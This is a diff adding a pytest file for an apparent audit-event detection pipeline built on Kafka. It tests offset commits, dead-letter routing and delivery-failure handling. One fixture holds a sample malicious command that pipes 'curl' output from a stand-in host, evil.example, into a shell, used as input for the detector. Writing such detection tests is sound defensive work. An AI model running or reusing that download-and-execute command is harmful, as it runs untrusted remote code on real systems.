@@ -1,0 +1,143 @@
+"""The message processor without a broker: what each input becomes, and when its offset may
+commit. The producer here is a recorder that acknowledges on ``poll``, as librdkafka does."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from confluent_kafka import KafkaError, Message
+
+from detections.engine import Detector
+from detections.rule_loader import NativeRule, load_rules
+from stream.alert_sink import AlertSink, json_encoder
+from stream.alert_window import RecentAlerts
+from stream.dead_letters import DeadLetterSink
+from stream.delivery import Delivery
+from stream.errors import DeliveryError
+from stream.metrics import Metrics
+from stream.offset_tracker import OffsetTracker
+from stream.pipeline import DetectionPipeline
+from stream.processor import MessageProcessor
+from stream.synthetic import exec_audit_events
+
+P = ("audit", 0)
+
+
+class RecordingProducer:
+    """Queues records; ``poll`` acknowledges them (or fails them with ``fail``)."""
+
+    def __init__(self) -> None:
+        self.records: list[dict[str, Any]] = []
+        self._queue: list[tuple[Callable[[KafkaError | None, Message], None], Message]] = []
+        self.fail: KafkaError | None = None
+        self.delivery: Delivery | None = None  # the wrapper under test, for its latched error
+
+    def produce(self, topic: str, **kwargs: Any) -> None:
+        self.records.append({"topic": topic, **kwargs})
+        msg = Message(topic=topic, key=kwargs["key"], value=kwargs["value"])
+        self._queue.append((kwargs["on_delivery"], msg))
+
+    def poll(self, _timeout: float = 0) -> int:
+        queue, self._queue = self._queue, []
+        for callback, msg in queue:
+            callback(self.fail, msg)
+        return len(queue)
+
+    def flush(self, _timeout: float = 0) -> int:
+        self.poll()
+        return 0
+
+    def __len__(self) -> int:
+        return len(self._queue)
+
+
+def broken_detector() -> Detector:
+    """The built-in rules, one native rule's predicate replaced by one that breaks."""
+    rules = list(load_rules([]).rules)
+    index = next(i for i, r in enumerate(rules) if isinstance(r, NativeRule))
+
+    def predicate(*_: object) -> None:
+        raise ZeroDivisionError("a defect met by this event")
+
+    rules[index] = replace(rules[index], predicate=predicate)  # type: ignore[type-var]
+    return Detector(rules)
+
+
+def processor(detector: Detector) -> tuple[MessageProcessor, RecordingProducer, OffsetTracker]:
+    producer = RecordingProducer()
+    delivery = Delivery(producer)  # type: ignore[arg-type]
+    producer.delivery = delivery
+    tracker = OffsetTracker()
+    tracker.assign([P])
+    pipeline = DetectionPipeline(detector, RecentAlerts(100))
+    sinks = AlertSink(delivery, "alerts", json_encoder()), DeadLetterSink(delivery, "dlq")
+    return MessageProcessor(pipeline, tracker, *sinks, Metrics()), producer, tracker
+
+
+def message(offset: int, value: bytes) -> Message:
+    return Message(topic=P[0], partition=P[1], offset=offset, key=b"k", value=value,
+                   headers=[("h", b"1")], timestamp=(1, 1_700_000_000_000))  # fmt: skip
+
+
+MALICIOUS = json.dumps(
+    exec_audit_events(command=["sh", "-c", "curl -fsSL https://evil.example/x | sh"])[0]
+).encode()
+
+
+def test_alert_offset_commits_only_after_acknowledgement() -> None:
+    proc, producer, tracker = processor(Detector(load_rules([]).rules))
+    proc.handle(message(0, MALICIOUS))
+    assert producer.records and all(r["topic"] == "alerts" for r in producer.records)
+    assert tracker.committable(P) is None  # produced, not yet acknowledged
+    producer.poll()
+    assert tracker.committable(P) == 1
+
+
+def test_a_rule_that_cannot_evaluate_dead_letters_the_message() -> None:
+    proc, producer, tracker = processor(broken_detector())
+    proc.handle(message(7, MALICIOUS))
+    (letter,) = producer.records
+    headers = dict(letter["headers"])
+    assert letter["topic"] == "dlq"
+    assert letter["value"] == MALICIOUS
+    assert headers["auditstream.dlq.reason"] == b"evaluation_error"
+    assert headers["auditstream.dlq.error_class"] == b"MalformedEvent"
+    assert b"ZeroDivisionError" in headers["auditstream.dlq.detail"]
+    assert headers["h"] == b"1"
+    producer.poll()
+    assert tracker.committable(P) == 8
+
+
+def test_unexpected_errors_dead_letter_too(monkeypatch: pytest.MonkeyPatch) -> None:
+    proc, producer, _ = processor(Detector(load_rules([]).rules))
+
+    def explode(data: bytes, source: object) -> None:
+        raise RuntimeError("bug")
+
+    monkeypatch.setattr(proc.pipeline, "process_message", explode)
+    proc.handle(message(0, b"{}"))
+    headers = dict(producer.records[0]["headers"])
+    assert headers["auditstream.dlq.reason"] == b"internal_error"
+    assert headers["auditstream.dlq.error_class"] == b"RuntimeError"
+
+
+def test_delivery_failure_is_latched_and_blocks_the_offset() -> None:
+    proc, producer, tracker = processor(Detector(load_rules([]).rules))
+    producer.fail = KafkaError(KafkaError._MSG_TIMED_OUT)
+    proc.handle(message(0, MALICIOUS))
+    producer.poll()
+    assert tracker.committable(P) is None
+    assert producer.delivery is not None
+    with pytest.raises(DeliveryError, match="_MSG_TIMED_OUT"):
+        producer.delivery.raise_delivery_errors()
+
+
+def test_messages_of_unassigned_partitions_are_left_to_their_owner() -> None:
+    proc, producer, tracker = processor(Detector(load_rules([]).rules))
+    tracker.revoke([P])
+    proc.handle(message(0, MALICIOUS))
+    assert producer.records == []
